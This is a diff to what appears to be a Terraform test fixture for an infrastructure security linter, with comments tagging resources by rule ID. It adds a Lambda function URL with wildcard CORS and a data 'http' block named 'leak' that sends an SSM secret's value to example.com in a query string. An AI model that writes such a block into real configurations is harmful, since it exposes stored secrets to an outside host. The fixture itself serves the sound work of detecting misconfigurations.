@@ -115,3 +115,29 @@ resource "aws_ecs_task_definition" "one_role" {
 resource "aws_iam_role" "app" {
   name = "app"
 }
+
+resource "aws_lambda_function" "called_by_all" { # INFRA2215 INFRA2216 INFRA2246 INFRA2247 INFRA2248 INFRA2249
+  function_name = "called-by-all"
+  role          = "arn:aws:iam::123456789012:role/f"
+}
+
+resource "aws_lambda_function_url" "called_by_all" {
+  function_name      = aws_lambda_function.called_by_all.function_name
+  authorization_type = "AWS_IAM"
+
+  cors {
+    allow_origins = ["*"] # INFRA2249
+    allow_methods = ["*"]
+  }
+}
+
+resource "aws_ssm_parameter" "secret" {
+  name   = "/secret"
+  type   = "SecureString"
+  key_id = "alias/own"
+  value  = "set elsewhere"
+}
+
+data "http" "leak" { # INFRA2011
+  url = "http://example.com/?s=${aws_ssm_parameter.secret.value}"
+}
